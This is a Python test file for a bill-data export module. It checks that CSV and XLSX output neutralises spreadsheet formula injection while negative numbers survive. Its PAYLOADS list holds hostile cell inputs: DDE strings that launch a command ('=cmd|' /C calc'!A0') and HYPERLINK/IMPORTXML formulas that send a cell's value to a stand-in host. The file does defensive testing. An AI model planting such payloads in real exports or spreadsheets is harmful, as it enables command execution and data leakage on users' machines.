"""No text of a bill becomes a formula, a link or markup in an export; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.provenance import PROVENANCE
from workbench.export import neutralise, restore, to_csv, to_xlsx

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.invalid",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "-team-a",
    "+1-555-0100",
    "@owner",
]
HARMLESS = ["web", "i-0abc", "a=b", "1-1", "'quoted'", "", " =1", "'", "http://example.invalid", "12345678901234567890"]


def cells(table: pa.Table) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(to_csv(table).decode(), newline=""))][1:]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_text_that_begins_like_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert cells(pa.table({"tag": [payload]})) == ["'" + payload]


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_leaves_other_text_alone(text: str) -> None:
    assert cells(pa.table({"tag": [text], "n": [1]})) == [text]


def test_csv_decides_by_column_type_so_negative_numbers_survive() -> None:
    table = pa.table({"text": ["-1.50"], "cost": pa.array([Decimal("-1.50")], pa.decimal128(38, 12)), "n": [-1.5]})
    assert to_csv(table).decode().splitlines()[1] == '"\'-1.50",-1.500000000000,-1.5'


def test_csv_neutralises_headings_lists_and_dictionary_columns() -> None:
    table = pa.table({"=tag": pa.array(["=1"]).dictionary_encode(), "list": [["=1"]]})
    heading, row = csv.reader(io.StringIO(to_csv(table).decode()))
    assert heading == ["'=tag", "list"]
    assert row == ["'=1", '["=1"]']


@pytest.mark.parametrize("payload", [text for text in PAYLOADS + HARMLESS if text])
def test_xlsx_writes_every_text_as_text(payload: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(pa.table({payload: [payload]}), PROVENANCE)))
    for row in (1, 2):
        cell = book["Data"].cell(row, 1)
        assert cell.data_type in ("s", "inlineStr")
        assert cell.hyperlink is None


@given(st.text())
def test_neutral_text_comes_back_and_never_begins_like_a_formula(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\x00"))


@given(st.lists(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00")) | st.none(), min_size=1))
def test_a_csv_column_says_the_same_as_the_function(texts: list[str | None]) -> None:
    table = pa.table({"text": pa.array(texts, pa.string()), "n": [1] * len(texts)})
    assert cells(table) == ["" if text is None else neutralise(text) for text in texts]
